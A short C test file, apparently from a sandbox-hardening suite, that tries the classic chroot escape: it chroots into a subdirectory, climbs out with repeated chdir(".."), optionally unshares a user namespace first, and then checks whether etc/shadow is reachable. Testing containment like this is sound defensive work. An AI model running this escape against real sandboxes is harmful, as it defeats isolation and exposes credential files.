// title: the classic way out of a root: chroot below and climb
// wall: seccomp nested_namespaces
// gvisor: seccomp
// source: chroot(2)
#include "attack.h"

#include <sched.h>
#include <sys/stat.h>

int
main(void)
{
    struct stat shadow;

    mkdir("jail", 0755);
    for (int nested = 0; nested < 2; nested++) {
        if (nested && unshare(CLONE_NEWUSER) < 0) {
            break;
        }
        if (chroot("jail") == 0) {
            for (int i = 0; i < 32; i++) {
                if (chdir("..") < 0) {
                    break;
                }
            }
            escaped("chroot is had, shadow %s",
                    stat("etc/shadow", &shadow) == 0 ? "in sight" : "not in sight");
        }
    }
    held("%s", strerror(errno));
}
